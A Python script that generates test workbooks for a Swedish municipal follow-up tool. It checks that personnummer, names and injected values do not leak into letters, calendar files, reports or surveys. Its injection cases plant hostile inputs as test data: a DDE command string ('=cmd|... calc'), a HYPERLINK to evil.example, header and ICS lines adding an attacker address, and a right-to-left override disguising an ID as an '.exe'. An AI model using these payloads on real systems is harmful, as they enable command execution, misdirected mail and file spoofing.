"""Writes tests/data/leak/<case>.xlsx and <case>.expected: personal data planted where outputs read.

Every case is the demo workbook (2025 planned on 2025-01-10, today 2025-11-22) with one
value planted: a personnummer in one of its forms, a verksamhetschef's name, a formula, a
line break, or a number that must *not* be taken for a personnummer (organisationsnummer,
Dnr, phone numbers). One Årshjul row (U005's KVAL visit) is set to a future date so that a
kallelse, the calendar and the report all read its Tid, Plats and Dnr.

Four commands run on each case (in its own folder, outputs under ut/):
    letters FILE --out ut/brev, calendar FILE --year 2025 --out ut/besok.ics,
    report FILE --out ut/rapport, survey-out FILE --type KVAL --out ut/enkat
all with --today 2025-11-22. <case>.expected holds, per command, `<command>: exit N` and,
when N is not 0, the exact output lines (stdout, then stderr). tests/test_leaks.py checks
those and reads every byte of every output for personnummer with its own pattern.

Run: python tests/data/make_leak_cases.py
"""

from __future__ import annotations

import shutil
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import openpyxl
from openpyxl.workbook.workbook import Workbook

HERE = Path(__file__).parent
OUT = HERE / "leak"
TODAY = "2025-11-22"
sys.path.insert(0, str(HERE.parent.parent / "src"))

from make_check_cases import header_col, set_cell  # noqa: E402

# Valid personnummer and a samordningsnummer that the demo workbook holds nowhere (its
# internal Beskrivning in Iakttagelser!G5 holds 19121212-1212 on purpose).
PNR = "19380607-0011"
PNR10 = "451123-0015"
SAMORDNING = "19520871-0011"
CHEF = "Maria Lind"  # Verksamhetschef of U001
PHONE_LIKE = "0701234569"  # a mobile number whose digits also pass as a personnummer (2007)
VISIT_PROVIDER, VISIT_TYPE = "U005", "KVAL"

COMMANDS: dict[str, list[str]] = {
    "letters": ["letters", "{file}", "--out", "ut/brev"],
    "calendar": ["calendar", "{file}", "--year", "2025", "--out", "ut/besok.ics"],
    "report": ["report", "{file}", "--out", "ut/rapport"],
    "survey-out": ["survey-out", "{file}", "--type", "KVAL", "--out", "ut/enkat"],
}

Mutation = Callable[[Workbook], None]


@dataclass
class Case:
    name: str
    mutate: Mutation
    leaks: str  # what must not appear: "pnr", "name", "" (nothing planted that is personal)


CASES: dict[str, Case] = {}


def case(name: str, leaks: str = "pnr") -> Callable[[Mutation], Mutation]:
    def register(f: Mutation) -> Mutation:
        CASES[name] = Case(name, f, leaks)
        return f

    return register


def row_of(wb: Workbook, sheet: str, header: str, value: object) -> int:
    ws = wb[sheet]
    col = header_col(ws, header)
    for r in range(2, ws.max_row + 1):
        if ws.cell(r, col).value == value:
            return r
    raise KeyError((sheet, header, value))


def visit_row(wb: Workbook) -> int:
    ws = wb["Årshjul"]
    return row_of(wb, "Årshjul", "Nyckel", f"{VISIT_PROVIDER}|{VISIT_TYPE}|2025") if ws else 0


def set_text(wb: Workbook, sheet: str, row: int, header: str, value: str) -> None:
    """Text as a user types it with a leading apostrophe: "=..." stays text, not a formula."""
    ws = wb[sheet]
    cell = ws.cell(row, header_col(ws, header))
    cell.value = value
    cell.data_type = "s"


def setting(wb: Workbook, key: str, value: object) -> None:
    ws = wb["Inställningar"]
    ws.cell(row_of(wb, "Inställningar", "Inställning", key), 2).value = value


def focus_row(wb: Workbook) -> int:
    ws = wb["Fokusområden"]
    return next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == 2025)


# --- personnummer where an output reads it -------------------------------------------------------
@case("arshjul_plats")
def _plats(wb: Workbook) -> None:
    set_cell(wb, "Årshjul", visit_row(wb), "Plats", f"Hos brukaren {PNR}, Storgatan 1")


@case("arshjul_tid")
def _tid(wb: Workbook) -> None:
    set_cell(wb, "Årshjul", visit_row(wb), "Tid", f"10:00 (brukare {PNR10})")


@case("arshjul_dnr")
def _dnr(wb: Workbook) -> None:
    set_cell(wb, "Årshjul", visit_row(wb), "Dnr", f"VON 2025/12 {PNR}")


@case("fokus_omrade")
def _fokus(wb: Workbook) -> None:
    set_cell(wb, "Fokusområden", focus_row(wb), "Fokusområde", f"Kompetens {SAMORDNING}")


@case("fokus_beskrivning")
def _fokus_text(wb: Workbook) -> None:
    set_cell(wb, "Fokusområden", focus_row(wb), "Beskrivning", f"Egenkontroller, t.ex. {PNR}")


@case("iakttagelse_omrade")
def _omrade(wb: Workbook) -> None:
    set_cell(wb, "Iakttagelser", row_of(wb, "Iakttagelser", "IakttagelseID", "I-2025-001"), "Område", f"Dokumentation {PNR10}")


@case("installning_kommun")
def _kommun(wb: Workbook) -> None:
    setting(wb, "Kommun", f"Sjöviks kommun {PNR}")


@case("installning_postadress")
def _postadress(wb: Workbook) -> None:
    setting(wb, "Postadress", f"Box 100, {PNR10}, Sjövik")


@case("installning_diarienummer")
def _diarienummer(wb: Workbook) -> None:
    setting(wb, "Diarienummer", f"VON {PNR}")


@case("typ_underlag")
def _underlag(wb: Workbook) -> None:
    set_cell(wb, "Uppföljningstyper", row_of(wb, "Uppföljningstyper", "TypID", VISIT_TYPE), "Underlag",
             f"Bemanningsschema;Journal för {PNR}")


@case("typ_bilagor")
def _bilagor(wb: Workbook) -> None:
    set_cell(wb, "Uppföljningstyper", row_of(wb, "Uppföljningstyper", "TypID", VISIT_TYPE), "Bilagor", f"Metodstöd;{PNR10}")


@case("utforare_adress")
def _adress(wb: Workbook) -> None:
    set_cell(wb, "Utförare", row_of(wb, "Utförare", "UtförarID", VISIT_PROVIDER), "Adress", f"c/o {PNR}, Skolvägen 6")


@case("enskild_firma_namn")
def _firm_name(wb: Workbook) -> None:
    set_cell(wb, "Utförare", row_of(wb, "Utförare", "UtförarID", VISIT_PROVIDER), "Namn", f"Anna Holm {PNR10}")


@case("enskild_firma_orgnr")
def _firm_orgnr(wb: Workbook) -> None:
    # An enskild firma's organisationsnummer is its owner's personnummer.
    set_cell(wb, "Utförare", row_of(wb, "Utförare", "UtförarID", VISIT_PROVIDER), "Organisationsnummer", PNR10)


@case("iakttagelse_id")
def _finding_id(wb: Workbook) -> None:
    set_cell(wb, "Iakttagelser", row_of(wb, "Iakttagelser", "IakttagelseID", "I-2025-001"), "IakttagelseID", PNR)


@case("utforar_id")
def _provider_id(wb: Workbook) -> None:
    new = PNR10
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value == VISIT_PROVIDER:
                    cell.value = new
                elif isinstance(cell.value, str) and cell.value.startswith(f"{VISIT_PROVIDER}|"):
                    cell.value = new + cell.value[len(VISIT_PROVIDER):]


# --- forms that hide the separator ------------------------------------------------------------
FORMS = {
    "form_spaces_around_dash": "19380607 - 0011",
    "form_space_after_dash": "451123- 0015",
    "form_soft_hyphen": "19380607\u00ad0011",
    "form_zero_width_space": "451123\u200b0015",
    "form_line_break_after_dash": "19380607-\n0011",
    "form_en_dash_spaces": "451123 \u2013 0015",
}
for _name, _form in FORMS.items():
    def _form_case(wb: Workbook, form: str = _form) -> None:
        set_cell(wb, "Årshjul", visit_row(wb), "Plats", f"Brukaren {form} hemma")

    case(_name)(_form_case)


# --- a verksamhetschef's name -----------------------------------------------------------------
@case("namn_genitiv_plats", leaks="name")
def _name_plats(wb: Workbook) -> None:
    set_cell(wb, "Årshjul", visit_row(wb), "Plats", f"{CHEF}s kontor, Sjövägen 3")


@case("namn_fokusomrade", leaks="name")
def _name_focus(wb: Workbook) -> None:
    set_cell(wb, "Fokusområden", focus_row(wb), "Beskrivning", f"Uppföljning av {CHEF.upper()}:s rutiner")


# --- numbers that are no personnummer: nothing stops ---------------------------------------
@case("ej_orgnr_dnr_telefon", leaks="")
def _false_positives(wb: Workbook) -> None:
    r = visit_row(wb)
    set_cell(wb, "Årshjul", r, "Plats", f"Org.nr 556637-1075, ring {PHONE_LIKE} vid porten")
    set_cell(wb, "Årshjul", r, "Dnr", "VON 2025/1234-12")
    set_cell(wb, "Årshjul", r, "Tid", "09:00-11:30")
    setting(wb, "Telefon", PHONE_LIKE)
    set_cell(wb, "Utförare", row_of(wb, "Utförare", "UtförarID", VISIT_PROVIDER), "Telefon", "070-123 45 69")


# --- injection ----------------------------------------------------------------------------------
@case("formel_i_namn", leaks="")
def _formula(wb: Workbook) -> None:
    r = row_of(wb, "Utförare", "UtförarID", VISIT_PROVIDER)
    set_text(wb, "Utförare", r, "Namn", '=HYPERLINK("http://evil.example","Klicka")')
    set_text(wb, "Utförare", r, "Adress", "=cmd|' /C calc'!A0")
    set_cell(wb, "Årshjul", visit_row(wb), "Plats", "@SUM(1+1)")


@case("radbrytning_namn_plats", leaks="")
def _line_breaks(wb: Workbook) -> None:
    r = row_of(wb, "Utförare", "UtförarID", VISIT_PROVIDER)
    set_cell(wb, "Utförare", r, "Namn", "Trygga Händer\nBcc: angripare@evil.example")
    set_cell(wb, "Årshjul", visit_row(wb), "Plats", "Skolvägen 6\nATTENDEE:mailto:angripare@evil.example")


@case("hoger_till_vanster_id", leaks="")
def _bidi_id(wb: Workbook) -> None:
    set_cell(wb, "Iakttagelser", row_of(wb, "Iakttagelser", "IakttagelseID", "I-2025-001"), "IakttagelseID",
             "I-2025-001\u202excod.exe")


@case("mycket_langt_id", leaks="")
def _long_id(wb: Workbook) -> None:
    set_cell(wb, "Iakttagelser", row_of(wb, "Iakttagelser", "IakttagelseID", "I-2025-001"), "IakttagelseID", "I" * 300)


# --- building ---------------------------------------------------------------------------------
def base_workbook(folder: Path) -> Path:
    """The demo workbook planned for 2025, with one kallelse due: U005's KVAL visit on 2025-12-15."""
    from uppf_xl import actions
    from uppf_xl.workbook import open_workbook
    from uppf_xl.workbook.initbook import create_workbook

    path = folder / "_base.xlsx"
    create_workbook(path, demo=True, today=date(2025, 11, 22))
    actions.plan(open_workbook(path), year=2025, today=date(2025, 1, 10))
    wb = openpyxl.load_workbook(path)
    r = visit_row(wb)
    set_cell(wb, "Årshjul", r, "Planerat datum", datetime(2025, 12, 15))
    set_cell(wb, "Årshjul", r, "Genomförd", None)
    set_cell(wb, "Årshjul", r, "Kallelse skickad", None)
    set_cell(wb, "Årshjul", r, "Tid", "10:00")
    set_cell(wb, "Årshjul", r, "Plats", "Skolvägen 6")
    wb.save(path)
    return path


def run(book: Path, command: str) -> tuple[int, list[str]]:
    from click.testing import CliRunner

    from uppf_xl.cli import main

    args = [a.format(file=book.name) for a in COMMANDS[command]] + ["--today", TODAY]
    result = CliRunner().invoke(main, args)
    return result.exit_code, result.stdout.splitlines() + result.stderr.splitlines()


def expected_of(book: Path) -> list[str]:
    lines = []
    for command in COMMANDS:
        code, output = run(book, command)
        lines.append(f"{command}: exit {code}")
        if code:
            lines += output
    return lines


def build() -> None:
    import os

    OUT.mkdir(exist_ok=True)
    for old in OUT.glob("*"):
        old.unlink()
    with tempfile.TemporaryDirectory() as tmp:
        base = base_workbook(Path(tmp))
        for name, c in CASES.items():
            wb = openpyxl.load_workbook(base)
            c.mutate(wb)
            target = OUT / f"{name}.xlsx"
            wb.save(target)
            work = Path(tmp) / name
            work.mkdir()
            shutil.copyfile(target, work / target.name)
            cwd = os.getcwd()
            os.chdir(work)
            try:
                lines = [f"leaks {c.leaks or '-'}", *expected_of(work / target.name)]
            finally:
                os.chdir(cwd)
            (OUT / f"{name}.expected").write_text("\n".join(lines) + "\n", encoding="utf-8")
            print(name, " | ".join(l for l in lines if ": exit" in l))


if __name__ == "__main__":
    build()
